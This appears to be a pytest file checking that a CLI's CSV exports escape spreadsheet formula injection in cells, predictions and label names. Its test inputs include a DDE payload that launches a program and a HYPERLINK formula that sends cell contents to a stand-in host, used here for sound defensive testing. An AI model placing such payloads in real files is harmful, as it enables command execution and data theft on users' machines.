"""Tables that are opened in a spreadsheet compute nothing of what others have written."""

import csv
import io
import json
import re
from collections.abc import Iterable
from pathlib import Path
from typing import Any

import pytest

from scripts.cli.command_line.recipes import resolve
from scripts.cli.evaluate.prediction import Table, predict
from scripts.cli.run.experiment import Experiment
from scripts.cli.spreadsheet import cell

NUMBERS = [-1.5, 3, float("-inf"), "-1.5", "+3", "1e-5", "-1e-5", "-inf", "-nan", "+.5", "-2.", ""]
FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.com?x="&A1,"see")',
    "+1+1",
    "-1+1",
    "-A1",
    "- a dash",
    "@SUM(1,1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "\tx",
    " =1+1",
    "\ufeff=1",
    "＝1+1",
    "＋1",
    "－1",
    "＠A1",
    "a;=1+1;b",
    "a; -B1",
    "a\n=1+1\nb",
    "a\t@A1",
    "-1;=1",
    "--1",
    "-٣",
]
TEXTS = ["a = b", "a-b", "e@mail.org", "'tis", "猫", "3-4", "[-1, 2]", "1+1", "a,-b"]


def formulas(cells: Iterable[str]) -> list[str]:
    """Those that a spreadsheet would compute, also one that takes another separator than the comma."""
    number = re.compile(r"[+-]?[0-9.]+(e[+-]?[0-9]+)?|[+-](inf|nan)|")
    parts = [part for cell in cells for part in [cell, *re.split("[;\t\r\n]", cell)]]
    return [part for part in parts if re.match("[\\s\ufeff]*[-=+@＝＋－＠]", part) and not number.fullmatch(part)]


def cells_of(text: str) -> list[str]:
    return [part for row in csv.reader(io.StringIO(text, newline="")) for part in row]


@pytest.mark.parametrize("value", [*NUMBERS, *TEXTS])
def test_numbers_and_plain_texts_stay_what_they_are(value: Any) -> None:
    assert cell(value) == value


@pytest.mark.parametrize("value", FORMULAS)
def test_no_cell_begins_a_formula(value: str) -> None:
    assert formulas([value]) or value == "\tx", "it would be one indeed"
    safe = cell(value)
    assert safe.startswith((value[0], "'"))
    assert not formulas([safe])
    assert safe.replace("'", "") == value.replace("'", ""), "nothing but apostrophes is added"


@pytest.mark.parametrize("as_json", [False, True])
def test_predictions_hold_no_formula_whatever_was_predicted(as_json: bool) -> None:
    file = io.StringIO(newline="")
    writer = Table(file, as_json)
    rows = [
        {"input": text, "prediction": text, "score": -1.5, "spans": [text], "probabilities": {"=A1": 0.5, "a;=B1": 0.5}}
        for text in FORMULAS
    ]
    for row in rows:
        writer.write(dict(row))
    if as_json:
        assert [json.loads(line) for line in file.getvalue().splitlines()] == rows
        return
    assert not formulas(cells_of(file.getvalue()))
    read = list(csv.DictReader(io.StringIO(file.getvalue(), newline="")))
    assert [row["prediction"] for row in read] == [cell(text) for text in FORMULAS]
    assert {row["score"] for row in read} == {"-1.5"}


def test_a_model_of_dangerous_classes_predicts_none(tmp_path: Path) -> None:
    lines = "".join(f'{number},"{["=1+1", "@A1", "-3", "a;=2"][number % 4]}"\n' for number in range(80))
    (tmp_path / "rows.csv").write_text("a,kind\n" + lines)
    words = ["--model", "mlp", "--data", str(tmp_path / "rows.csv"), "--logs", str(tmp_path), "--trainer.max_epochs=1"]
    Experiment(resolve(words)).fit()
    run, output = str(tmp_path / "mlp" / "version_0"), tmp_path / "predicted.csv"
    predict([], [run], [str(tmp_path / "rows.csv")], None, str(output))
    assert not formulas(cells_of(output.read_text()))
    rows = list(csv.DictReader(io.StringIO(output.read_text(), newline="")))
    assert {row["prediction"] for row in rows} <= {"'=1+1", "'@A1", "-3", "a;'=2"}
    assert {"p_=1+1", "p_@A1", "p_-3", "p_a;'=2"} <= {*rows[0]}
